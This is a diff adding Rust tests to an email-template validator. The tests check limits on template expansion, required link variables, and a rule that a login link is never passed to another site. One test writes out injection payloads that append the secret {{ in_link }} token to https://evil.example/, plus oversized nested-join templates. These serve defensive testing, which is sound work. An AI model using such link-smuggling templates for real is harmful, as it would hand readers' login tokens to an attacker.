@@ -89,6 +89,13 @@ fn words_come_to_an_end() {
     assert_eq!(fault(&format!("{GOOD}\n{long}")).code, "too_long", "three times over, twelve deep");
     let wide = format!("{{{{ [{}] | join }}}}", vec!["event.title"; 2000].join(","));
     assert_eq!(fault(&format!("{GOOD}\n{wide}")).code, "too_long");
+    let named = format!("[[{}] | join]", ["reader"; 10].join(","));
+    let named = format!("{{% for b in {named} %}}{{% for c in [[b,b,b,b,b,b,b,b,b,b] | join] %}}{{{{ c }}}}{{% endfor %}}{{% endfor %}}");
+    assert_eq!(fault(&format!("{GOOD}\n{named}")).code, "broken_template", "each name holds ten times as much");
+    let between = (0..20).fold("\"x\"".to_owned(), |between, _| format!("[1,1,1,1,1,1,1,1,1,1] | join({between})"));
+    for whole in [format!("{{{{ {between} }}}}"), format!("{{% if {between} == \"x\" %}}y{{% endif %}}")] {
+        assert_eq!(fault(&format!("{GOOD}\n{whole}")).code, "too_long", "nine times as long, twenty times over");
+    }
     let grown = "{{ reader | upper | lower }}".repeat(300);
     assert_eq!(faults("Il posto è tuo", &format!("{GOOD}\n{grown}")), []);
 }
@@ -102,6 +109,54 @@ fn a_follow_up_says_whom_the_reader_met_and_how_to_stop() {
         let faults = own::faults(&mail, Locale::En, Words { subject: &subject, text: &text.replace(without, "") });
         assert!(faults.len() == 1 && faults[0].code == "missing_variable" && faults[0].detail.contains(name), "{faults:?}");
     }
+}
+
+#[test]
+fn sr_42_an_introduction_is_neither_hidden_nor_without_an_address() {
+    for locale in Locale::ALL {
+        for (kind, name) in [
+            (MailKind::F2, "introductions_link"),
+            (MailKind::F6, "introductions_link"),
+            (MailKind::C, "introductions_link"),
+            (MailKind::Introduction, "address"),
+        ] {
+            let mail = sample(kind, *locale, ELSEWHERE);
+            assert!(own::variables(&mail, *locale).iter().any(|one| one.name == name && one.required && one.meaning.is_some()), "{kind}");
+            let (subject, text) = own::shipped(kind, *locale);
+            let written = format!("{{{{ {name} }}}}");
+            assert!(text.contains(&written), "{text}");
+            let without = text.replace(&written, "https://example.org/");
+            let faults = own::faults(&mail, *locale, Words { subject: &subject, text: &without });
+            assert!(faults.len() == 1 && faults[0].code == "missing_variable" && faults[0].detail.contains(name), "{kind}: {faults:?}");
+        }
+        let introduction = own::variables(&sample(MailKind::Introduction, *locale, ELSEWHERE), *locale);
+        assert!(introduction.iter().all(|one| one.meaning.is_some()), "{introduction:?}");
+    }
+}
+
+/// Whoever has such a link is the reader, as far as Convivio can tell.
+#[test]
+fn r18_a_link_that_lets_in_is_told_to_nobody_else() {
+    let elsewhere = "https://evil.example/";
+    for (subject, wrong) in [
+        ("x", format!("{GOOD}\n[Qui]({elsewhere}?t={{{{ in_link }}}})")),
+        ("x", format!("{GOOD}\n[Qui]({elsewhere}?]({{{{ in_link }}}})")),
+        ("x", format!("{GOOD}\n\nVai a {elsewhere}?t={{{{ in_link }}}}")),
+        ("x", format!("{GOOD}\n\nVai a {elsewhere}?]({{{{ in_link }}}})")),
+        ("x", format!("{GOOD}\n{{% for c in in_link %}}{{% if c == \"a\" %}}a{{% endif %}}{{% endfor %}}")),
+        ("{{ in_link }}", GOOD.to_owned()),
+        ("]({{ in_link }})", GOOD.to_owned()),
+    ] {
+        let mail = sample(MailKind::Confirmed, Locale::It, ELSEWHERE);
+        let words = Words { subject, text: &wrong };
+        let faults = own::faults(&mail, Locale::It, words);
+        let refused = faults.first().map(|fault| fault.code);
+        assert!(matches!(refused, Some("misplaced_link" | "broken_template")), "{subject} {wrong}: {faults:?}");
+        assert!(own::render(&mail, Locale::It, words).is_err(), "words that were kept before are not said either: {wrong}");
+    }
+    let asked = format!("{GOOD}\n{{% if in_link is defined %}}\n[Ancora]({{{{- in_link -}}}})\n{{% endif %}}");
+    assert_eq!(faults("x", &asked), []);
+    assert_eq!(fault(&format!("{GOOD}\n[Qui]({elsewhere}?n={{{{ reader }}}})")).code, "broken_template", "nor is anything else");
 }
 
 #[test]
